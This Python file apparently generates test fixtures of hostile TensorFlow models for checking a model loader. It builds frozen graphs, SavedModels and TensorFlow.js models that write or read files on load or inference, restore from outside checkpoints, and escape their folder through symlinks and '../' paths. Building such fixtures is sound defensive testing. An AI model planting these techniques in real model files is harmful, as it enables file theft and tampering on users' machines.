    "mapped": (attack_mapped, "maps a file into memory", "ImmutableConst"),
    "python": (attack_python, "calls Python", "PyFunc"),
    "unknown": (attack_unknown, "has an op that nobody knows", "Fact>Whatever"),
    "branch": (attack_branch, "writes a file from a branch", "WriteFile"),
}


def write_frozen(folder: Path, graph: Any) -> Path:
    """Write a frozen graph."""
    path = folder / "m.pb"
    path.write_bytes(graph.SerializeToString())
    return path


def saved_model_of(graph: Any) -> tuple[Any, Any]:
    """Give a SavedModel of TensorFlow 1 around a graph, and its meta graph."""
    model = messages().SavedModel(saved_model_schema_version=1)
    meta_graph = model.meta_graphs.add()
    meta_graph.meta_info_def.tags.append("serve")
    meta_graph.meta_info_def.tensorflow_version = "1.15.0"
    meta_graph.graph_def.CopyFrom(graph)
    signature = meta_graph.signature_def["serving_default"]
    signature.method_name = "tensorflow/serving/predict"
    for side, name in ((signature.inputs, "x"), (signature.outputs, "y")):
        info = side[name]
        info.name, info.dtype = f"{name}:0", DT_FLOAT
        info.tensor_shape.dim.add(size=-1)
        info.tensor_shape.dim.add(size=4)
    return model, meta_graph


def write_saved(folder: Path, model: Any) -> Path:
    """Write a SavedModel without variables."""
    path = folder / "saved"
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(model.SerializeToString())
    return path


def write_graph_json(folder: Path, graph: Any) -> Path:
    """Write a TensorFlow.js graph model, with a weight that can be measured."""
    from google.protobuf.json_format import MessageToDict

    weight = graph.node.add(name="dense/kernel", op="Const")
    weight.attr["dtype"].type = DT_FLOAT
    last = graph.node.add(name="answer", op="MatMul", input=["y", "dense/kernel"])
    last.attr["T"].type = DT_FLOAT
    topology = MessageToDict(graph)
    for node in topology["node"]:
        for attribute in node.get("attr", {}).values():
            if "type" in attribute:
                attribute["type"] = {1: "DT_FLOAT", 3: "DT_INT32", 7: "DT_STRING", 10: "DT_BOOL"}[attribute["type"]]
            if "tensor" in attribute:
                kind = attribute["tensor"]["dtype"]
                attribute["tensor"]["dtype"] = {1: "DT_FLOAT", 3: "DT_INT32", 7: "DT_STRING", 10: "DT_BOOL"}[kind]
    topology.pop("library", None)
    ends = {"inputs": {"x": _info("x")}, "outputs": {"answer": _info("answer")}}
    content = {
        "format": "graph-model",
        "modelTopology": topology,
        "signature": ends,
        "weightsManifest": [dense_weights(folder)],
    }
    path = folder / "model.json"
    path.write_text(json.dumps(content))
    return path


def _info(name: str) -> dict[str, Any]:
    shape = {"dim": [{"size": "-1"}, {"size": "4"}]}
    return {"name": f"{name}:0", "dtype": "DT_FLOAT", "tensorShape": shape}


def graph_cases() -> list[Case]:
    """Give the attacks by ops, in frozen graphs, SavedModels of TensorFlow 1 and graph models of TensorFlow.js."""
    found = []
    for key, (attack, tries, op) in attacks.items():

        def make(target: Target, attack: Attack = attack) -> Any:
            graph = plain_graph()
            attack(graph, target)
            return graph

        def frozen(folder: Path, target: Target, make: Callable[[Target], Any] = make) -> Path:
            return write_frozen(folder, make(target))

        def saved(folder: Path, target: Target, make: Callable[[Target], Any] = make) -> Path:
            return write_saved(folder, saved_model_of(make(target))[0])

        found.append(Case(f"frozen-{key}", f"{tries} from a frozen graph", frozen, op))
        found.append(Case(f"saved-{key}", f"{tries} from a SavedModel", saved, op))
    for key in ("write", "read", "print"):
        attack, tries, op = attacks[key]

        def stock(folder: Path, target: Target, attack: Attack = attack) -> Path:
            graph = plain_graph()
            attack(graph, target)
            return write_graph_json(folder, graph)

        found.append(Case(f"json-{key}", f"{tries} from a TensorFlow.js graph that is measured", stock, op, measured))
    return found + loading_cases()


def loading_cases() -> list[Case]:
    """Give the SavedModels of TensorFlow 1 that attack when they are loaded."""

    def init(folder: Path, target: Target) -> Path:
        model, meta_graph = _with_write(target)
        meta_graph.collection_def["saved_model_main_op"].node_list.value.append("evil")
        return write_saved(folder, model)

    def init_signature(folder: Path, target: Target) -> Path:
        model, meta_graph = _with_write(target)
        meta_graph.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name = "evil"
        return write_saved(folder, model)

    def tables(folder: Path, target: Target) -> Path:
        model, meta_graph = _with_write(target)
        meta_graph.collection_def["table_initializer"].node_list.value.append("evil")
        return write_saved(folder, model)

    def restore(folder: Path, target: Target) -> Path:
        model, meta_graph = _with_write(target)
        text(meta_graph.graph_def.node, "filename", "model")
        meta_graph.saver_def.filename_tensor_name = meta_graph.saver_def.save_tensor_name = "filename:0"
        meta_graph.saver_def.restore_op_name = "evil"
        path = write_saved(folder, model)
        _checkpoint(path)
        return path

    def restore_elsewhere(folder: Path, target: Target) -> Path:
        model, meta_graph = saved_model_of(plain_graph())
        nodes = meta_graph.graph_def.node
        text(nodes, "filename", "model")
        text(nodes, "elsewhere", str(target.secret))
        for name, value in (("names", "v"), ("slices", "")):
            text(nodes, name, value)
            nodes[-1].attr["value"].tensor.tensor_shape.dim.add(size=1)
        nodes.add(name="evil", op="RestoreV2", input=["elsewhere", "names", "slices"])
        nodes[-1].attr["dtypes"].list.type.append(DT_FLOAT)
        meta_graph.saver_def.filename_tensor_name = meta_graph.saver_def.save_tensor_name = "filename:0"
        meta_graph.saver_def.restore_op_name = "evil"
        path = write_saved(folder, model)
        _checkpoint(path)
        return path

    return [
        Case("load-main-op", "writes a file when TensorFlow loads it", init, "WriteFile"),
        Case("load-init-signature", "writes a file when TensorFlow loads it", init_signature, "WriteFile"),
        Case("load-table", "writes a file when tables are filled", tables, "WriteFile"),
        Case("load-restore", "writes a file when variables are restored", restore, "WriteFile"),
        Case(
            "load-restore-elsewhere", "restores variables from a checkpoint elsewhere", restore_elsewhere, "RestoreV2"
        ),
    ]


def _with_write(target: Target) -> tuple[Any, Any]:
    model, meta_graph = saved_model_of(plain_graph())
    write_file(meta_graph.graph_def.node, target)
    return model, meta_graph


def _checkpoint(path: Path) -> None:
    (path / "variables" / "variables.index").write_bytes(b"")
    (path / "variables" / "variables.data-00000-of-00001").write_bytes(b"")


# --- SavedModels of TensorFlow 2, and ways out of the folder ----------------------------------------------------------


def _tensorflow() -> Any:
    import tensorflow as tf

    return tf


def _module(signature: Callable[[Any, Target, Any], Any] | None = None) -> Callable[[Path, Target], Path]:
    """Write a SavedModel of TensorFlow 2 with a variable, whose signature does something more."""

    def write(folder: Path, target: Target) -> Path:
        tf = _tensorflow()
        module = tf.Module()
        module.kernel = tf.Variable(np.eye(4, dtype=np.float32))

        def serve(x: Any) -> Any:
            if signature is not None:
                signature(tf, target, module)
            return {"y": x @ module.kernel}

        specs = [tf.TensorSpec([None, 4], tf.float32, name="x")]
        module.serve = tf.function(serve, input_signature=specs)
        path = folder / "saved"
        tf.saved_model.save(module, str(path), signatures=module.serve)
        return path

    return write


def _serving(tf: Any, target: Target, module: Any) -> Any:
    return tf.io.write_file(target.file(), "executed")


def _nested(tf: Any, target: Target, module: Any) -> Any:
    inner = tf.function(lambda: tf.cond(tf.constant(1) > 0, lambda: _serving(tf, target, module), tf.no_op))
    return inner()


def _reading(tf: Any, target: Target, module: Any) -> Any:
    return tf.print(tf.io.read_file(str(target.secret)))


def _dataset(tf: Any, target: Target, module: Any) -> Any:
    return tf.print(tf.data.TextLineDataset(str(target.secret)).reduce("", lambda a, b: a + b))


def _resource(folder: Path, target: Target) -> Path:
    tf = _tensorflow()

    class Resource(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
        def _create_resource(self) -> Any:
            return tf.raw_ops.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> None:
            tf.io.write_file(target.file(), "executed at load")

    module = tf.Module()
    module.resource = Resource()
    _ = module.resource.resource_handle
    specs = [tf.TensorSpec([None, 4], tf.float32, name="x")]
    module.serve = tf.function(lambda x: {"y": x * 2}, input_signature=specs)
    path = folder / "saved"
    tf.saved_model.save(module, str(path), signatures=module.serve)
    Path(target.file()).unlink(missing_ok=True)
    return path


def _saver(folder: Path, target: Target) -> Path:
    tf = _tensorflow()
    from tensorflow.python.trackable import base

    class Saved(base.Trackable):  # type: ignore[misc]
        def _serialize_to_tensors(self) -> Any:
            return {"v": tf.constant(1.0)}

        def _restore_from_tensors(self, tensors: Any) -> Any:
            return tf.io.write_file(target.file(), "executed at restore")

    module = tf.Module()
    module.saved = Saved()
    specs = [tf.TensorSpec([None, 4], tf.float32, name="x")]
    module.serve = tf.function(lambda x: {"y": x * 2}, input_signature=specs)
    path = folder / "saved"
    tf.saved_model.save(module, str(path), signatures=module.serve)
    Path(target.file()).unlink(missing_ok=True)
    return path


def _other_signature(folder: Path, target: Target) -> Path:
    tf = _tensorflow()
    module = tf.Module()
    specs = [tf.TensorSpec([None, 4], tf.float32, name="x")]

    def other(x: Any) -> Any:
        tf.io.write_file(target.file(), "executed")
        return {"y": x}

    module.serve = tf.function(lambda x: {"y": x * 2}, input_signature=specs)
    module.other = tf.function(other, input_signature=specs)
    path = folder / "saved"
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve, "other": module.other})
    return path


def _text_table(folder: Path, target: Target) -> Path:
    tf = _tensorflow()
    module = tf.Module()
    start = tf.lookup.TextFileInitializer(
        str(target.secret), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER
    )
    module.table = tf.lookup.StaticHashTable(start, -1)
    specs = [tf.TensorSpec([None], tf.string, name="x")]
    module.serve = tf.function(lambda x: {"y": module.table.lookup(x)}, input_signature=specs)
    path = folder / "saved"
    tf.saved_model.save(module, str(path), signatures=module.serve)
    return path


def _plain_saved(folder: Path) -> Path:
    """Write a SavedModel of TensorFlow 1 that does nothing wrong."""
    return write_saved(folder, saved_model_of(plain_graph())[0])


def _linked(name: str) -> Callable[[Path, Target], Path]:
    """Let a part of a SavedModel be a link that leads outside."""

    def write(folder: Path, target: Target) -> Path:
        path = _plain_saved(folder)
        outside = target.secret.parent
        if name == "saved_model.pb":
            moved = outside / f"{folder.name}.pb"
            (path / name).rename(moved)
            (path / name).symlink_to(moved)
        elif "/" in name:
            place = path / name
            place.parent.mkdir(exist_ok=True)
            place.symlink_to(target.secret)
        else:
            if (path / name).is_dir():
                (path / name).rmdir()
            (path / name).symlink_to(outside, target_is_directory=True)
        return path

    return write


def _asset(name: Callable[[Target], str]) -> Callable[[Path, Target], Path]:
    def write(folder: Path, target: Target) -> Path:
        model, meta_graph = saved_model_of(plain_graph())
        string(meta_graph.graph_def.node.add(name="asset", op="Const"), "asset")
        asset = meta_graph.asset_file_def.add(filename=name(target))
        asset.tensor_info.name = "asset:0"
        return write_saved(folder, model)

    return write


def _weights_path(folder: Path, target: Target) -> Path:
    path = write_layers_json(folder, keras2(dense(), output="dense"))
    content = json.loads(path.read_text())
    content["weightsManifest"][0]["paths"] = ["../" * 20 + str(target.secret).lstrip("/")]
    path.write_text(json.dumps(content))
    return path


def _weights_link(folder: Path, target: Target) -> Path:
    path = write_layers_json(folder, keras2(dense(), output="dense"))
    (folder / "weights.bin").unlink()
    (folder / "weights.bin").symlink_to(target.secret)
    return path


def saved_model_cases() -> list[Case]:
    """Give the SavedModels of TensorFlow 2 that attack, and those whose files are elsewhere."""
    tf2: dict[str, Any] = {"needs_tensorflow": True}
    out: dict[str, Any] = {"confined": True}
    outside = "outside (its|the model's) folder"
    return [
        Case("tf2-serving", "writes a file from its signature", _module(_serving), "WriteFile", **tf2),
        Case("tf2-nested", "writes a file from a function in a function", _module(_nested), "WriteFile", **tf2),
        Case("tf2-reading", "reads a file and prints it", _module(_reading), "ReadFile", **tf2),
        Case("tf2-dataset", "reads a file as a dataset", _module(_dataset), "TextLineDataset", **tf2),
        Case("tf2-initialize", "writes a file when a resource is initialised", _resource, "WriteFile", **tf2),
        Case("tf2-restore", "writes a file when its variables are restored", _saver, "WriteFile", **tf2),
        Case(
            "tf2-other", "writes a file from a signature that is not built", _other_signature, "", dropped=True, **tf2
        ),
        Case("link-variables", "keeps its variables elsewhere", _linked("variables"), outside, **out),
        Case("link-assets", "keeps its assets elsewhere", _linked("assets"), outside, **out),
        Case("link-extra", "keeps more assets elsewhere", _linked("assets.extra"), outside, **out),
        Case("link-index", "has an index that is a link", _linked("variables/variables.index"), outside, **out),
        Case(
            "link-shard",
            "has a shard that is a link",
            _linked("variables/variables.data-00000-of-00001"),
            outside,
            **out,
        ),
        Case("link-asset", "has an asset that is a link", _linked("assets/words.txt"), outside, **out),
        Case("link-graph", "has a graph that is a link", _linked("saved_model.pb"), outside, **out),
        Case("asset-absolute", "names an asset by its path", _asset(lambda t: str(t.secret)), outside, **out),
        Case("asset-parent", "names an asset in another folder", _asset(lambda t: "../../secret"), outside, **out),
        Case(
            "asset-inner",
            "names an asset in another folder, later in its name",
            _asset(lambda t: "a/../../../secret"),
            outside,
            **out,
        ),
        Case("json-path", "names a weights file in another folder", _weights_path, outside, **out),
        Case("json-link", "has a weights file that is a link", _weights_link, outside, **out),
    ]


def cases() -> list[Case]:
    """Give all hostile sources."""
    return [*keras2_cases(), *keras3_cases(), *hdf5_cases(), *graph_cases(), *saved_model_cases()]


def write_all(root: Path, target: Target, some: Iterable[Case] | None = None) -> dict[str, Path]:
    """Write cases, by default all, each into a folder of its name.

    Returns:
        What ``source`` has to name, by case.
    """
    found = {}
    for case in cases() if some is None else some:
        folder = root / case.name
        folder.mkdir(parents=True)
        found[case.name] = case.write(folder, target)
    return found


def main(root: str, folder: str, port: str, secret: str, library: str) -> None:
    """Write all cases, and their paths as JSON to stdout; a program of its own, because some import TensorFlow."""
    target = Target(Path(folder), int(port), Path(secret), Path(library))
    make_library(target)
    paths = write_all(Path(root), target)
    sys.stdout.write(json.dumps({name: str(path) for name, path in paths.items()}) + "\n")


if __name__ == "__main__":
    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    os.environ["CUDA_VISIBLE_DEVICES"] = "-1"
    main(*sys.argv[1:])
